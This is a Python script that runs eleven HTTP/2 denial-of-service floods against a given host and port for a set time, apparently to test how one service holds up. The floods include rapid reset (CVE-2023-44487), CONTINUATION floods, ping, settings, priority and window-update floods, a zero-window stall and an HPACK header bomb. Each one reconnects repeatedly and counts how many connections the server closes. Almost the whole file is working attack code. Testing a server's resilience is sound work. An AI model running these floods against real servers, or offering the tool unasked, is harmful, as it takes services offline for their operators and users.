"""Floods of HTTP/2 frames that no honest client sends, over one connection after the other.

usage: h2_floods.py HOST PORT FLOOD SECONDS

Prints one JSON object: how many frames were sent, over how many connections, and how many of those the server closed.
"""

import json
import socket
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize()
GET = [(":method", "GET"), (":path", "/v1/offers/feed"), (":scheme", "http"), (":authority", "x"), ("ringfence-device", "d")]
POST = [(":method", "POST"), (":path", "/v1/reports"), (":scheme", "http"), (":authority", "x"), ("ringfence-device", "d")]


def headers(stream, fields, flags, encoder=None):
    block = (encoder or hpack.Encoder()).encode(fields, huffman=False)
    return HeadersFrame(stream, block, flags=flags).serialize()


def rapid_reset():
    """CVE-2023-44487: streams that are cancelled as soon as they are opened."""
    for stream in range(1, 1 << 30, 2):
        yield headers(stream, GET, ["END_HEADERS", "END_STREAM"]) + RstStreamFrame(stream, error_code=8).serialize(), 2


def reset_by_fault():
    """CVE-2025-8671: streams that the server itself is made to reset, by a window update of zero."""
    for stream in range(1, 1 << 30, 2):
        frame = WindowUpdateFrame(stream, window_increment=1).serialize()[:-4] + b"\0\0\0\0"
        yield headers(stream, GET, ["END_HEADERS", "END_STREAM"]) + frame, 2


def continuation():
    """CVE-2024-27316 and others: a header that never ends, in large pieces."""
    block = hpack.Encoder().encode([("x-%d" % n, "y" * 100) for n in range(100)], huffman=False)[:10000]
    yield HeadersFrame(1, hpack.Encoder().encode(GET), flags=[]).serialize(), 1
    while True:
        yield ContinuationFrame(1, block).serialize(), 1


def small_continuation():
    """The same in pieces of nothing at all."""
    yield HeadersFrame(1, hpack.Encoder().encode(GET), flags=[]).serialize(), 1
    while True:
        yield ContinuationFrame(1, b"").serialize() * 100, 100


def empty_data():
    """CVE-2019-9518: data frames without data, and without an end."""
    yield headers(1, POST, ["END_HEADERS"]), 1
    while True:
        yield DataFrame(1, b"").serialize() * 100, 100


def settings():
    """CVE-2019-9515: settings, each of which wants an acknowledgement that nobody reads."""
    while True:
        yield SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize() * 100, 100


def ping():
    """CVE-2019-9512: pings, each of which wants an answer that nobody reads."""
    while True:
        yield PingFrame(0, b"12345678").serialize() * 100, 100


def priority():
    """CVE-2019-9513: the order of streams, again and again."""
    for stream in range(1, 1 << 30, 2):
        yield PriorityFrame(stream, depends_on=0, stream_weight=5).serialize(), 1


def window_update():
    """Window updates of one byte for the whole connection."""
    while True:
        yield WindowUpdateFrame(0, window_increment=1).serialize() * 100, 100


def header_bomb():
    """One large field in the table of the connection, then streams that name it a thousand times in a byte each."""
    encoder = hpack.Encoder()
    yield headers(1, GET + [("x-bomb", "y" * 3000)], ["END_HEADERS", "END_STREAM"], encoder), 1
    index = encoder.encode([("x-bomb", "y" * 3000)], huffman=False)
    for stream in range(3, 1 << 30, 2):
        block = encoder.encode(GET, huffman=False) + index * 1000
        yield HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]).serialize(), 1


def shut_windows():
    """CVE-2019-9517: answers that are asked for and never taken, on as many streams as are allowed."""
    yield SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize(), 1
    for stream in range(1, 1 << 30, 2):
        yield headers(stream, GET, ["END_HEADERS", "END_STREAM"]), 1


FLOODS = {
    "rapid-reset": (rapid_reset, True),
    "reset-by-fault": (reset_by_fault, True),
    "continuation": (continuation, True),
    "small-continuation": (small_continuation, True),
    "empty-data": (empty_data, True),
    "settings": (settings, False),
    "ping": (ping, False),
    "priority": (priority, True),
    "window-update": (window_update, True),
    "header-bomb": (header_bomb, True),
    "shut-windows": (shut_windows, False),
}


def flood(address, frames, reads, until):
    """Sends until the server closes the connection, or the time is over. Says how many frames left, and whether it did."""
    sent = 0
    try:
        peer = socket.create_connection(address, timeout=0.5)
    except socket.timeout:
        return sent, False
    with peer:
        try:
            peer.sendall(PREFACE)
            for frame, count in frames:
                peer.sendall(frame)
                sent += count
                if reads and sent % 100 == 0:
                    peer.setblocking(False)
                    try:
                        if peer.recv(65536) == b"":
                            return sent, True
                    except BlockingIOError:
                        pass
                    peer.settimeout(0.5)
                if time.monotonic() > until:
                    return sent, False
        except socket.timeout:
            # The server takes no more: what is on its way is bounded by the kernel.
            return sent, False
        except OSError:
            return sent, True
    return sent, False


def main():
    address = (sys.argv[1], int(sys.argv[2]))
    make, reads = FLOODS[sys.argv[3]]
    until = time.monotonic() + float(sys.argv[4])
    sent = connections = closed = 0
    while time.monotonic() < until:
        frames, was_closed = flood(address, make(), reads, until)
        sent, connections, closed = sent + frames, connections + 1, closed + was_closed
    print(json.dumps({"frames": sent, "connections": connections, "closed": closed}))


main()
